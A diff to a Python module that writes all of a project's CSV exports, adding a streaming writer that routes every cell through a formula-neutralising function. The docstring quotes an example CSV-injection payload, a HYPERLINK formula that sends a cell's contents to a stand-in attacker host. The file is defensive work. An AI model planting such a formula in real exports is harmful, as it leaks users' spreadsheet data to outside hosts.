@@ -1,5 +1,5 @@
 """The one CSV writer of the project: every CSV export (Polis, the outcome section, the
-moderation log) is written here, so no cell can start a spreadsheet formula.
+moderation log, the open datasets) is written here, so no cell can start a spreadsheet formula.
 
 A cell that starts with = + - @, a tab or a carriage return is run as a formula by Excel,
 LibreOffice and Google Sheets (CSV injection: `=HYPERLINK("http://evil.example/?x="&A1,"x")`
@@ -12,7 +12,7 @@ from __future__ import annotations
 import csv
 import io
 from collections.abc import Iterable, Mapping, Sequence
-from typing import Any
+from typing import Any, Protocol
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 BOM = "\ufeff"  # lets spreadsheet programs read the Chinese as UTF-8
@@ -29,6 +29,28 @@ def safe_cell(value: Any) -> Any:
     return value
 
 
+class TextSink(Protocol):
+    def write(self, text: str) -> Any: ...
+
+
+def write_csv(
+    sink: TextSink,
+    header: Sequence[str],
+    rows: Iterable[Sequence[Any]],
+    *,
+    lineterminator: str = "\n",
+) -> int:
+    """Write a header and rows to `sink` as they come (nothing held in memory, for large open
+    datasets), every cell through `safe_cell`; returns the row count."""
+    writer = csv.writer(sink, lineterminator=lineterminator)
+    writer.writerow([safe_cell(h) for h in header])
+    n = 0
+    for row in rows:
+        writer.writerow([safe_cell(v) for v in row])
+        n += 1
+    return n
+
+
 def csv_text(
     header: Sequence[str],
     rows: Iterable[Sequence[Any]],
@@ -40,10 +62,7 @@ def csv_text(
     buffer = io.StringIO()
     if bom:
         buffer.write(BOM)
-    writer = csv.writer(buffer, lineterminator=lineterminator)
-    writer.writerow([safe_cell(h) for h in header])
-    for row in rows:
-        writer.writerow([safe_cell(v) for v in row])
+    write_csv(buffer, header, rows, lineterminator=lineterminator)
     return buffer.getvalue()
 
 
